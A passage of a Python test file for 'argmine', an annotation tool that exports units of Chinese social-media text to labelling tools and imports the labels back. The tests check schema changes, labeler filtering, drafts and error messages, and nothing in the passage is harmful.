    assert {x["text"]: x["background_color"] for x in doccano if x["text"] in want} == want
    export(UNITS[:1], tmp_path / "brat", "brat", schema=schema, documents=DOCS)
    visual = (tmp_path / "brat" / "visual.conf").read_text("utf-8")
    assert [line for line in visual.splitlines() if "bgColor" in line][:3] == [f"{k}\tbgColor:{v}" for k, v in want.items()]


def test_cli_import_label_error_hint_follows_the_schema_given(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    (tmp_path / "fire.toml").write_text(FIRE_TOML, "utf-8")
    export(UNITS[:1], tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="污染", sentiment="negative"))
    args = ["import", str(tmp_path / "u.csv"), "--format", "csv", "-o", str(tmp_path / "g.jsonl")]
    res = CliRunner().invoke(main, [*args, "--schema", str(tmp_path / "fire.toml")])
    assert res.exit_code == 1
    assert res.stderr.splitlines()[0] == (
        f"argmine: error: {tmp_path / 'u.csv'}: row 1 (line 2) (unit d1#1): unknown theme '污染' in schema 'fireworks'; expected one of: "
        f"tradition, pollution (or 'other' for none); '污染' stands for theme 'pollution': write its id; "
        f"use the labels defined in {tmp_path / 'fire.toml'}")
    res = CliRunner().invoke(main, [*args, "--schema", str(tmp_path / "fire.toml"), "--strict"])
    assert res.exit_code == 1 and res.output.endswith(f"write its id; use the labels defined in {tmp_path / 'fire.toml'}\n"
                                                      "argmine: error: stopping because of --strict\n")
    res = CliRunner().invoke(main, args)  # no --schema: the packaged schema, and the option that changes it
    assert res.stderr.splitlines()[0].endswith(
        "the labels must be those of the packaged schema (argmine/schemas/alipay.toml); if they belong to another schema, pass --schema FILE (schema= in Python)")


# --- QA round 6: one labeler of a project, drafts and skips, hand-edited JSON, a grown unit ----------


def _two_labeler_export(tasks):
    """Label Studio export of a project with overlap 2: users 1 and 2 label every task; user 1 skips the last one."""
    out = []
    for n, task in enumerate(tasks, 1):
        themes, sentiment = edited(task["data"]["unit_id"])
        out.append({"id": n, "data": task["data"], "drafts": [], "annotations": [
            {"id": 100 + n, "completed_by": 1, "was_cancelled": n == len(tasks), "result": ls_choice_result(themes, sentiment)},
            {"id": 200 + n, "completed_by": 2, "was_cancelled": False, "result": ls_choice_result(themes, "neutral")}]})
    return out


def test_only_annotator_on_sheets_leaves_out_the_other_labelers_unlabelled_rows_and_encoding(tmp_path):
    export(UNITS[:3], tmp_path / "u.csv", "csv")
    with open(tmp_path / "u.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for who, encoding in (("张三", "utf-8-sig"), ("李四", "gbk")):
        for n, row in enumerate(rows):
            row.update(annotator=who, themes="privacy" if n else "", sentiment="negative" if n else "",
                       text=row["text"].encode("gbk", errors="replace").decode("gbk"))
        write_csv(tmp_path / f"{who}.csv", rows, encoding=encoding)
    sheets = [tmp_path / "张三.csv", tmp_path / "李四.csv"]
    result = import_annotations(sheets, "csv", units=UNITS, only_annotator="张三")
    assert [p.where for p in result.unlabeled] == [f"{sheets[0]}: row 1 (line 2) (unit {UNITS[0].id})"]
    assert not any("read as gbk" in str(w) for w in result.warnings)
    assert result.ignored == {"row left unlabelled by other labelers (--only-annotator)": 1, "label by other labelers (--only-annotator)": 2}
    result = import_annotations(sheets, "csv", units=UNITS, only_annotator="李四")
    assert [p.where for p in result.unlabeled] == [f"{sheets[1]}: row 1 (line 2) (unit {UNITS[0].id})"]
    assert "read as gbk" in str(result.warnings[0])


def test_only_annotator_keeps_one_labeler_of_a_label_studio_project(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS[:3], tmp_path / "ls", "label-studio")
    tasks = json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8"))
    (tmp_path / "e.json").write_text(json.dumps(_two_labeler_export(tasks), ensure_ascii=False), "utf-8")
    one = import_annotations([tmp_path / "e.json"], "label-studio", only_annotator="1")
    two = import_annotations([tmp_path / "e.json"], "label-studio", only_annotator="label-studio-user-2")
    assert [(r.id, r.annotator, r.sentiment) for r in one.records] == [(u.id, "label-studio-user-1", edited(u.id)[1]) for u in UNITS[:2]]
    assert [p.reason for p in one.unlabeled] == [E_NO_LABEL_TASK.format("skipped by 1: the annotation was cancelled")]
    assert {r.sentiment for r in two.records} == {"neutral"} and len(two.records) == 3 and not two.conflicts
    assert one.ignored == {"annotation cancelled (skipped) in Label Studio": 1, "annotation by other labelers (--only-annotator)": 3}
    with pytest.raises(AnnotationError, match="no annotation by 'bob' in the files; the labelers there are: label-studio-user-1, label-studio-user-2"):
        import_annotations([tmp_path / "e.json"], "label-studio", only_annotator="bob")
    runner = CliRunner()
    for who in ("1", "2"):
        res = runner.invoke(main, ["import", str(tmp_path / "e.json"), "--format", "label-studio", "--only-annotator", who,
                                   "-o", str(tmp_path / f"u{who}.jsonl")])
        assert res.exit_code == 0, res.output
    res = runner.invoke(main, ["agreement", str(tmp_path / "u1.jsonl"), str(tmp_path / "u2.jsonl"), "--format", "json"])
    assert json.loads(res.stdout)["n"] == 2
    assert "--only-annotator" in (ROOT / "docs" / "annotation-formats.md").read_text("utf-8")


E_NO_LABEL_TASK = "the task ({}) was not labelled; label it in the tool or leave the unit out"


def test_label_studio_drafts_and_cancelled_annotations_are_counted(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS[:3], tmp_path / "ls", "label-studio")
    tasks = _two_labeler_export(json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8")))
    tasks[0]["annotations"] = []
    tasks[0]["drafts"] = [{"id": 77, "user": "a@x.com", "result": ls_choice_result(["privacy"], "negative")}]
    (tmp_path / "e.json").write_text(json.dumps(tasks, ensure_ascii=False), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert [p.reason for p in result.unlabeled] == [E_NO_LABEL_TASK.format("only a draft by a@x.com, never submitted")]
    assert result.ignored == {"annotation cancelled (skipped) in Label Studio": 1, "draft saved but never submitted": 1}
    res = CliRunner().invoke(main, ["import", str(tmp_path / "e.json"), "--format", "label-studio", "-o", str(tmp_path / "g.jsonl")])
    assert res.stderr.splitlines()[-1].endswith(
        "; ignored: 1 draft saved but never submitted, 1 annotation cancelled (skipped) in Label Studio")
    assert "drafts" in (ROOT / "docs" / "annotation-formats.md").read_text("utf-8")


def test_hand_edited_label_studio_json_is_named_per_task(tmp_path):
    export(UNITS[:3], tmp_path / "ls", "label-studio")
    tasks = as_ls_export(json.loads((tmp_path / "ls" / "tasks.json").read_text("utf-8")), lambda t: ls_choice_result(["privacy"], "negative"))
    tasks[0]["annotations"][0]["result"][0]["value"]["choices"] = "privacy"  # a string, not a list
    tasks[1]["annotations"] = {"x": 1}
    (tmp_path / "e.json").write_text(json.dumps(tasks, ensure_ascii=False), "utf-8")
    result = import_annotations([tmp_path / "e.json"], "label-studio")
    assert [str(p) for p in result.errors] == [
        f"{tmp_path / 'e.json'} task 1 annotation 101: 'choices' is a string \"privacy\"; expected a list of label names such as "
        "[\"privacy\"] (the JSON was edited by hand?): export it again from Label Studio",
        f"{tmp_path / 'e.json'} task 2: 'annotations' is an object {{\"x\": 1}}; expected a list of annotation objects "
        "(the JSON was edited by hand?): export it again from Label Studio"]
    assert [r.id for r in result.records] == [UNITS[2].id]
    (tmp_path / "empty.json").write_text("", "utf-8")
    result = import_annotations([tmp_path / "empty.json"], "label-studio")
    assert [str(p) for p in result.errors] == [f"{tmp_path / 'empty.json'}: the file is empty; pass Label Studio's JSON export (one JSON array of tasks)"]
    result = import_annotations([tmp_path / "empty.json"], "doccano")
    assert "the file is empty" in str(result.errors[0])


def test_import_says_the_source_text_changed_when_a_unit_grew(tmp_path):
    old = "我觉得还行，挺好的🙂"
    units = [Unit.from_source(old, doc="c2", n=1, start=0, end=len(old), kind="comment")]
    export(units, tmp_path / "u.csv", "csv")
    fill_csv(tmp_path / "u.csv", lambda row: row.update(themes="pro_social", sentiment="positive"))
    grown = old + "我再补充一句。"
    now = [Unit.from_source(grown, doc="c2", n=1, start=0, end=len(grown), kind="comment")]
    result = import_annotations([tmp_path / "u.csv"], "csv", units=now)
    assert [p.reason for p in result.errors] == [
        f"cannot be mapped to a unit: its span c2 0..{len(old)} is part of unit c2#1 0..{len(grown)} of the source, which now reads "
        f"'{grown}'; the source text changed since export (run 'argmine realign', or export the unit again), or the export was cut "
        "into clauses (pass --source-granularity clause)"]


def test_cli_export_only_unlabeled_warns_about_gold_that_matches_no_unit(tmp_path):
    from click.testing import CliRunner

    from argmine.annotations import GoldRecord, write_gold
    from argmine.cli import main

    (tmp_path / "a.txt").write_text("新加的一行。\n财不外露。来往已死。\n", "utf-8")  # a line was prepended since labelling
    gold = tmp_path / "gold.jsonl"
    write_gold(gold, [GoldRecord(id="a#1", doc="a", start=0, end=5, text="财不外露。", sentiment="negative"),
                      GoldRecord(id="b#1", doc="b", start=0, end=2, text="好。", sentiment="positive")])  # not among the inputs
    res = CliRunner().invoke(main, ["export", str(tmp_path / "a.txt"), "--format", "csv", "--no-predictions",
                                    "--only-unlabeled", str(gold), "-o", str(tmp_path / "rest.csv")])
    assert res.exit_code == 0, res.output
    assert res.stderr.splitlines()[0] == (
        f"argmine: warning: 1 of the 2 records of {gold} match no unit of their document in the inputs (e.g. a#1 a 0..5): the source "
        "or its segmentation changed since labelling, so their units are probably exported again; "
        f"run 'argmine realign {gold} INPUTS -o NEW' and pass NEW to --only-unlabeled")


def test_docs_quote_the_packaged_models_thresholds_as_they_are():
    from safetensors.numpy import load_file

    model = ROOT / "argmine" / "models" / "default"
    themes = json.loads((model / "config.json").read_text("utf-8"))["themes"]
    values = [f"{t:.2f}".rstrip("0").rstrip(".") for t in load_file(str(model / "weights.safetensors"))["thresholds"]]
    docs = " ".join((ROOT / "docs" / "annotation-formats.md").read_text("utf-8").split())
    assert f"for the packaged model now {', '.join(values[:-1])} and {values[-1]} for {', '.join(themes[:-1])} and {themes[-1]}" in docs


def test_doccano_document_export_with_unicode_line_separators_imports_every_unit(tmp_path):
    # doccano's export and argmine's leave U+2028, U+2029 and U+0085 raw inside the JSON text; str.splitlines cut records there
    doc = Document(id="ls", text="支付宝\u2028做社交。财不外露\u0085。来往\u2029已死。")
    units = [Unit.from_source(doc.text, doc="ls", n=n, start=s, end=e, kind="body") for n, (s, e) in enumerate([(0, 8), (8, 14), (14, 20)], 1)]
    preds = [prediction(i) for i in range(3)]
    export(units, tmp_path / "dc", "doccano", predictions=preds, documents=[doc], level="document")
    assert "\u2028" in (tmp_path / "dc" / "tasks.jsonl").read_text("utf-8")
    result = import_annotations([tmp_path / "dc" / "tasks.jsonl"], "doccano", units=units)
    assert not result.errors, [str(p) for p in result.errors]
    assert [(r.id, r.text) for r in result.records] == [(u.id, u.text) for u in units]


def test_brat_document_whose_text_starts_with_a_bom_keeps_it_and_its_offsets(tmp_path):
    doc = Document(id="page", text="\ufeff财不外露。来往已死。")  # a doubled BOM in the file: the second is the text's
    units = [Unit.from_source(doc.text, doc="page", n=1, start=1, end=6, kind="body"),
             Unit.from_source(doc.text, doc="page", n=2, start=6, end=11, kind="body")]
    export(units, tmp_path / "brat", "brat", predictions=[prediction(0), prediction(1)], documents=[doc])
    result = import_annotations([tmp_path / "brat"], "brat", units=units)
    assert not result.errors and not result.warnings, [str(p) for p in result.problems]
    assert [(r.id, r.start, r.text) for r in result.records] == [("page#1", 1, "财不外露。"), ("page#2", 6, "来往已死。")]


@pytest.mark.parametrize("fmt,level", [("doccano", "unit"), ("doccano", "document"), ("brat", "document")])
def test_import_counts_records_that_still_carry_the_exported_predictions(tmp_path, fmt, level):
    export(UNITS, tmp_path / "ex", fmt, predictions=PREDICTIONS, documents=DOCS, level=level)
    path = tmp_path / "ex" / ("tasks.jsonl" if fmt == "doccano" else "")
    result = import_annotations([path], fmt, units=UNITS)
    assert not result.errors and result.prefilled == len(result.records) == len(UNITS)
    if fmt == "doccano" and level == "unit":  # one record relabelled: it no longer counts
        lines = [json.loads(x) for x in path.read_text("utf-8").splitlines()]
        lines[0]["label"] = ["bloat", "negative"]
        path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")
        assert import_annotations([path], fmt, units=UNITS).prefilled == len(UNITS) - 1


def test_cli_import_warns_that_an_unedited_export_is_predictions_not_gold(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS, tmp_path / "ex", "doccano", predictions=PREDICTIONS)
    res = CliRunner().invoke(main, ["import", str(tmp_path / "ex" / "tasks.jsonl"), "--format", "doccano", "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 0, res.output
    assert f"argmine: warning: {len(UNITS)} of {len(UNITS)} records still carry the model's pre-filled labels unchanged; if nobody " \
        "reviewed them they are predictions, not gold (import the tool's export after labelling)" in res.stderr.splitlines()


def test_cli_import_of_a_partly_reviewed_export_counts_the_unchanged_records_without_a_warning(tmp_path):
    from click.testing import CliRunner

    from argmine.cli import main

    export(UNITS, tmp_path / "ex", "doccano", predictions=PREDICTIONS)
    path = tmp_path / "ex" / "tasks.jsonl"
    lines = [json.loads(x) for x in path.read_text("utf-8").splitlines()]
    lines[0]["label"] = ["bloat", "negative"]  # one record relabelled, the others kept as guessed
    path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")
    res = CliRunner().invoke(main, ["import", str(path), "--format", "doccano", "-o", str(tmp_path / "g.jsonl")])
    assert res.exit_code == 0, res.output
    assert "pre-filled labels unchanged; if nobody" not in res.stderr
    assert res.stderr.splitlines()[-1].endswith(f"; {len(UNITS) - 1} kept the pre-filled labels unchanged")


# --- QA round 14: gold of several rounds, schema changes between them ----------------------------------

ROUND1_TOML = '[schema]\nid = "fire"\nversion = "1"\n[[themes]]\nid = "tradition"\n[[themes]]\nid = "smog"\n[[themes]]\nid = "noise"\n'
# smog renamed pollution, noise removed, safety added
ROUND2_TOML = '[schema]\nid = "fire"\nversion = "2"\n[[themes]]\nid = "tradition"\n[[themes]]\nid = "pollution"\n[[themes]]\nid = "safety"\n'


def _cli(*args):
    from click.testing import CliRunner

    from argmine.cli import main

    return CliRunner().invoke(main, [str(a) for a in args])


def _page_and_gold(tmp_path):
    """A page of three sentences and the gold records of its units, built from the segmenter's own units."""
    from argmine.annotations import GoldRecord
    from argmine.read import read
    from argmine.segment import segment

    (tmp_path / "page.txt").write_text("财不外露。来往已死。烟太大了。\n", "utf-8")
    units = segment(read([tmp_path / "page.txt"]))
    return units, [GoldRecord.from_unit(u, (), "neutral") for u in units]


def test_cli_export_only_unlabeled_takes_several_gold_files(tmp_path):
    from argmine.annotations import write_gold

    units, records = _page_and_gold(tmp_path)
    write_gold(tmp_path / "ls.jsonl", records[:1])
    write_gold(tmp_path / "csv.jsonl", records[1:2])
    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--only-unlabeled", tmp_path / "ls.jsonl",
               "--only-unlabeled", tmp_path / "csv.jsonl", "-o", tmp_path / "rest.csv")
    assert res.exit_code == 0, res.output
    assert res.stderr == (f"argmine: 1 unit from 1 document written to {tmp_path / 'rest.csv'} "
                          f"(2 already labelled in {tmp_path / 'ls.jsonl'}, {tmp_path / 'csv.jsonl'} skipped)\n")
    with open(tmp_path / "rest.csv", encoding="utf-8-sig", newline="") as f:
        assert [r["id"] for r in csv.DictReader(f)] == [units[2].id]


def test_cli_export_only_unlabeled_reads_a_file_given_twice_once_and_counts_its_bad_records_once(tmp_path):
    from argmine.annotations import write_gold

    units, records = _page_and_gold(tmp_path)
    write_gold(tmp_path / "g.jsonl", records[:1])
    with open(tmp_path / "g.jsonl", "a", encoding="utf-8") as f:
        f.write("{not json\n")
    same = f"{tmp_path}/../{tmp_path.name}/g.jsonl"  # another spelling of the same file
    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--only-unlabeled", tmp_path / "g.jsonl",
               "--only-unlabeled", same, "-o", tmp_path / "rest.csv")
    assert res.exit_code == 1
    lines = res.stderr.splitlines()
    assert lines[0] == f"argmine: note: --only-unlabeled {same} is {tmp_path / 'g.jsonl'} again; it is read once"
    assert [x for x in lines if "not valid JSON" in x] == [
        f"argmine: error: {tmp_path / 'g.jsonl'}: line 2: not valid JSON (Expecting property name enclosed in double quotes at column 2); "
        "fix or remove that line"]
    assert lines[-2] == (f"argmine: 2 units from 1 document written to {tmp_path / 'rest.csv'} (1 already labelled in "
                         f"{tmp_path / 'g.jsonl'} skipped; 1 record of {tmp_path / 'g.jsonl'} not counted as labelled "
                         "(reported above): their units are exported again)")
    assert lines[-1] == "argmine: error: 1 gold record was not counted as labelled (reported above); the inputs were processed"


def test_cli_export_only_unlabeled_does_not_count_labels_the_schema_lacks(tmp_path):
    from dataclasses import replace

    from argmine.annotations import write_gold

    units, records = _page_and_gold(tmp_path)
    (tmp_path / "r2.toml").write_text(ROUND2_TOML, "utf-8")
    write_gold(tmp_path / "r1.jsonl", [replace(records[0], themes=("smog",)), replace(records[1], themes=("tradition",)),
                                       replace(records[2], themes=("foo",))])
    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--schema", tmp_path / "r2.toml",
               "--only-unlabeled", tmp_path / "r1.jsonl", "-o", tmp_path / "rest.csv")
    assert res.exit_code == 1
    lines = res.stderr.splitlines()
    assert lines[0] == (f"argmine: error: {tmp_path / 'r1.jsonl'}:1: unknown theme 'smog' in schema 'fire'; expected one of: "
                        f"tradition, pollution, safety (or 'other' for none); use the labels defined in {tmp_path / 'r2.toml'}")
    assert lines[1].startswith(f"argmine: error: {tmp_path / 'r1.jsonl'}:3: unknown theme 'foo' in schema 'fire'")
    assert lines[2] == (f"argmine: 2 units from 1 document written to {tmp_path / 'rest.csv'} (1 already labelled in "
                        f"{tmp_path / 'r1.jsonl'} skipped; 2 records of {tmp_path / 'r1.jsonl'} not counted as labelled "
                        "(reported above): their units are exported again)")
    assert lines[3:] == ["argmine: error: 2 gold records were not counted as labelled (reported above); the inputs were processed"]
    with open(tmp_path / "rest.csv", encoding="utf-8-sig", newline="") as f:  # back to the labelers
        assert [r["id"] for r in csv.DictReader(f)] == [units[0].id, units[2].id]
    res = _cli("export", tmp_path / "page.txt", "--format", "csv", "--no-predictions", "--schema", tmp_path / "r2.toml",
               "--only-unlabeled", tmp_path / "r1.jsonl", "-o", tmp_path / "strict.csv", "--strict")
    assert (res.exit_code, res.stderr.splitlines()[1:]) == (1, ["argmine: error: stopping because of --strict"])
    assert not (tmp_path / "strict.csv").exists()


@pytest.mark.parametrize("fmt,level", [("label-studio", "unit"), ("label-studio", "document"), ("doccano", "unit"),
                                       ("doccano", "document"), ("brat", "document"), ("csv", "unit")])
def test_exports_record_their_schema_and_import_warns_when_it_is_another(tmp_path, fmt, level):
    r1, r2 = tmp_path / "r1.toml", tmp_path / "r2.toml"
    r1.write_text(ROUND1_TOML, "utf-8")
    r2.write_text(ROUND2_TOML, "utf-8")
    out = tmp_path / ("ex.csv" if fmt == "csv" else "ex")
    export(UNITS, out, fmt, predictions=None, schema=load_schema(r1), documents=DOCS, level=level)
    if fmt == "csv":  # the sheet, labelled in a spreadsheet
        with open(out, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f))
        assert {r["schema"] for r in rows} == {"fire v1"}
        path = tmp_path / "labelled.csv"
        with open(path, "w", encoding="utf-8-sig", newline="") as f:
            w = csv.DictWriter(f, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows({**r, "themes": "tradition", "sentiment": "neutral"} for r in rows)
    elif fmt == "label-studio":
        tasks = json.loads((out / "tasks.json").read_text("utf-8"))
        assert {(t["data"]["schema"], t["data"]["schema_version"]) for t in tasks} == {("fire", "1")}
        # labelled in Label Studio: every unit "tradition", so that both schemas accept it
        if level == "unit":
            exported = as_ls_export(tasks, lambda t: ls_choice_result(["tradition"], "neutral"))
        else:
            def regions(t):
                rs = [r for r in t["predictions"][0]["result"]]
                return ([{**r, "value": {**r["value"], "labels": ["tradition"]}} for r in rs]
                        + [{**r, "from_name": "sentiment", "type": "choices", "value": {**r["value"], "choices": ["neutral"]}} for r in rs])
            exported = as_ls_export(tasks, regions)
        path = tmp_path / "export.json"
        path.write_text(json.dumps(exported, ensure_ascii=False), "utf-8")
    elif fmt == "doccano":
        path = out / "tasks.jsonl"
        lines = [json.loads(x) for x in path.read_text("utf-8").splitlines()]
        assert {(x["schema"], x["schema_version"]) for x in lines} == {("fire", "1")}
        for x in lines:
            spans = {(s, e) for s, e, _ in x["label"]} if level == "document" else ()
            x["label"] = ["tradition", "neutral"] if level == "unit" else [[s, e, lab] for s, e in spans for lab in ("tradition", "neutral")]
        path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")
    else:
        path = out
        manifest = json.loads((out / "argmine.json").read_text("utf-8"))
        assert (manifest["schema"], manifest["schema_version"]) == ("fire", "1")
        for ann in out.glob("*.ann"):
            t_ids = re.findall(r"^(T\d+)\t", ann.read_text("utf-8"), re.M)
            ann.write_text(ann.read_text("utf-8").replace("\tother ", "\ttradition ")
                           + "".join(f"A{i}\tSentiment {t} neutral\n" for i, t in enumerate(t_ids, 1)), "utf-8")
    same = _cli("import", path, "--format", fmt, "--schema", r1, "-o", tmp_path / "g1.jsonl")
    assert same.exit_code == 0, same.output
    assert "exported for schema" not in same.stderr
    res = _cli("import", path, "--format", fmt, "--schema", r2, "-o", tmp_path / "g2.jsonl")
    assert res.exit_code == 0, res.output
    warned = [line for line in res.stderr.splitlines() if "exported for schema" in line]
    assert warned == [f"argmine: warning: {path} was exported for schema fire v1; the labels are read with fire v2 ({r2}): a theme "
                      "renamed or removed since is refused (map it with --map OLD=NEW, or OLD= to drop it), and a theme added "
                      "since was never offered to its labelers"]


def _doccano_of(tmp_path, themes):
    """A doccano unit-level export of UNITS made with ROUND1_TOML (schema fire v1), unit n labelled ``themes[n]`` and negative."""
    r1 = tmp_path / "r1.toml"
    r1.write_text(ROUND1_TOML, "utf-8")
    export(UNITS, tmp_path / "dc", "doccano", predictions=None, schema=load_schema(r1))
    lines = [json.loads(x) for x in (tmp_path / "dc" / "tasks.jsonl").read_text("utf-8").splitlines()]
    for x, t in zip(lines, themes, strict=True):
        x["label"] = [*t, "negative"]
    path = tmp_path / "e.jsonl"
    path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")
    return path


def _assert_other_schema_stop(tmp_path, path, fmt):
    """Import ``path`` (made for schema fire v1, 4 of its 6 units labelled with its own theme) without --schema: exit 1,
    the existing -o left as it was, and the last line naming --schema; returns that -o."""
    gold = tmp_path / "g.jsonl"
    gold.write_text("good gold\n", "utf-8")
    res = _cli("import", path, "--format", fmt, "-o", gold)  # --schema forgotten: 4 of 6 fail under alipay_social
    assert res.exit_code == 1
    assert gold.read_text("utf-8") == "good gold\n"  # not replaced by the two 'other' records
    assert res.stderr.splitlines()[-1] == (
        f"argmine: error: 4 of 6 records failed, more than half; nothing was imported, nothing written to {gold} (the existing "
        f"file is left as it was): {path} was exported for schema fire v1 and the labels were read with alipay_social v2 "
        "(argmine/schemas/alipay.toml): import again with --schema FILE, the schema file whose [schema] id is fire")
    return gold


def test_cli_import_of_another_schemas_export_that_mostly_fails_writes_nothing_and_says_to_pass_schema(tmp_path):
    path = _doccano_of(tmp_path, [["smog"]] * 4 + [[], []])
    gold = _assert_other_schema_stop(tmp_path, path, "doccano")
    r2 = tmp_path / "r2.toml"  # the same schema revised (same id): a rename to --map, not another debate; written as before
    r2.write_text(ROUND2_TOML, "utf-8")
    res = _cli("import", path, "--format", "doccano", "--schema", r2, "-o", gold)
    assert res.exit_code == 1 and len(gold.read_text("utf-8").splitlines()) == 2
    assert "--map smog=NEW" in res.stderr and "--schema FILE, the schema file" not in res.stderr


def _sheet_of(tmp_path, themes, *, schema_column=True):
    """The CSV sheet of UNITS made with ROUND1_TOML (schema fire v1), unit n labelled ``themes[n]`` and negative; without
    its ``schema`` column (a sheet exported before it had one, or a labeler deleted it) with ``schema_column=False``."""
    r1 = tmp_path / "r1.toml"
    r1.write_text(ROUND1_TOML, "utf-8")
    export(UNITS, tmp_path / "blank.csv", "csv", predictions=None, schema=load_schema(r1))
    with open(tmp_path / "blank.csv", encoding="utf-8-sig", newline="") as f:
        rows = [{**r, "themes": ";".join(t), "sentiment": "negative"} for r, t in zip(csv.DictReader(f), themes, strict=True)]
    if not schema_column:
        rows = [{k: v for k, v in r.items() if k != "schema"} for r in rows]
    path = tmp_path / "sheet.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def test_cli_import_of_another_schemas_sheet_whose_sentiments_fail_is_not_told_to_pass_schema(tmp_path):
    # every schema has positive, neutral and negative: a sentiment 'meh' is no sign of another schema, and --schema cannot mend it
    path = _sheet_of(tmp_path, [["smog"]] * 2 + [[]] * 4)  # exported for fire v1; under alipay_social two themes fail, as they should
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = [{**r, "sentiment": "meh" if i >= 2 else r["sentiment"]} for i, r in enumerate(csv.DictReader(f))]
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert import_annotations([path], "csv").label_failures == 2  # the two themes, not the four sentiments
    gold = tmp_path / "g.jsonl"
    for schema, written in (((), 0), (("--schema", tmp_path / "r1.toml"), 2)):  # the sheet's own schema fails them the same way
        res = _cli("import", path, "--format", "csv", *schema, "-o", gold)
        assert res.exit_code == 1
        assert "nothing was imported" not in res.stderr  # no other-schema stop
        assert (len(gold.read_text("utf-8").splitlines()) if gold.exists() else 0) == written
        failed = [line for line in res.stderr.splitlines() if "unknown sentiment 'meh'" in line]
        assert len(failed) == 4 and all(line.endswith(
            "expected one of: positive, neutral, negative; write one of them: every schema has these three sentiments, "
            "so --schema cannot change them") for line in failed), res.stderr


def test_cli_import_of_another_schemas_csv_sheet_that_mostly_fails_writes_nothing_and_says_to_pass_schema(tmp_path):
    path = _sheet_of(tmp_path, [["smog"]] * 4 + [[], []])
    gold = _assert_other_schema_stop(tmp_path, path, "csv")
    res = _cli("import", path, "--format", "csv", "--schema", tmp_path / "r1.toml", "-o", gold)  # the sheet's own schema
    assert (res.exit_code, len(gold.read_text("utf-8").splitlines())) == (0, 6), res.stderr
    assert "exported for schema" not in res.stderr


def test_cli_import_of_a_csv_sheet_without_the_schema_column_compares_no_schema_as_before(tmp_path):
    path = _sheet_of(tmp_path, [["smog"]] * 4 + [[], []], schema_column=False)
    gold = tmp_path / "g.jsonl"
    res = _cli("import", path, "--format", "csv", "-o", gold)  # nothing says which schema: the records that pass are written
    assert res.exit_code == 1 and len(gold.read_text("utf-8").splitlines()) == 2
    assert "exported for schema" not in res.stderr and "nothing was imported" not in res.stderr
    assert not import_annotations([path], "csv").schemas
    res = _cli("import", path, "--format", "csv", "--schema", tmp_path / "r1.toml", "-o", gold)
    assert (res.exit_code, len(gold.read_text("utf-8").splitlines())) == (0, 6), res.stderr


def test_cli_import_of_a_csv_sheet_pasted_from_two_schemas_warns_about_the_rows_of_the_other(tmp_path):
    path = _sheet_of(tmp_path, [["smog"]] * 4 + [[], []])
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for r in rows[5:]:  # rows 5-6 (lines 6-7): another labeler's rows, of schema alipay_social, pasted below
        r[rows[0].index("schema")] = "alipay_social v2"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    r1 = load_schema(tmp_path / "r1.toml")
    assert import_annotations([path], "csv", schema=r1).schemas == {str(path): ("fire", "1"), f"{path}: rows 5-6 (lines 6-7)": ("alipay_social", "2")}
    res = _cli("import", path, "--format", "csv", "--schema", tmp_path / "r1.toml", "-o", tmp_path / "g.jsonl")
    assert (f"argmine: warning: {path}: rows 5-6 (lines 6-7) was exported for schema alipay_social v2; the labels are read with fire v1 "
            f"({tmp_path / 'r1.toml'}): if they belong to another debate, import again with --schema FILE") in res.stderr


def test_import_of_a_csv_sheet_whose_schema_version_has_spaces_is_no_other_version(tmp_path):
    (tmp_path / "s.toml").write_text(ROUND1_TOML.replace('version = "1"', 'version = " 2 "'), "utf-8")
    schema = load_schema(tmp_path / "s.toml")
    export(UNITS, tmp_path / "blank.csv", "csv", predictions=None, schema=schema)
    result = import_annotations([tmp_path / "blank.csv"], "csv", schema=schema)  # blank rows: only the schema cells matter
    assert result.schemas == {str(tmp_path / "blank.csv"): ("fire", "2")}
    assert result.other_schemas(schema) == {}


def test_cli_import_of_another_schemas_export_is_written_when_most_failures_are_not_its_labels(tmp_path):
    # records broken in themselves (here a label field that is an object) fail whatever the schema: --schema would not
    # mend them, so only the two records with another schema's theme count towards the other-schema stop
    path = _doccano_of(tmp_path, [["smog"]] * 2 + [[]] * 4)
    records = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    for r in records[2:4]:
        r["label"] = {"broken": True}
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), "utf-8")
    gold = tmp_path / "g.jsonl"
    res = _cli("import", path, "--format", "doccano", "-o", gold)
    assert res.exit_code == 1
    assert len(gold.read_text("utf-8").splitlines()) == 2, res.stderr
    assert "nothing was imported" not in res.stderr


def test_cli_import_of_another_schema_ids_export_warns_to_pass_schema_first_and_map_still_works(tmp_path):
    path = _doccano_of(tmp_path, [["smog"]] * 5 + [["noise"]])
    (tmp_path / "s.toml").write_text(ROUND1_TOML.replace('"fire"', '"fire2"').replace('[[themes]]\nid = "noise"\n', ""), "utf-8")
    args = ["import", path, "--format", "doccano", "--schema", tmp_path / "s.toml", "-o", tmp_path / "g.jsonl"]
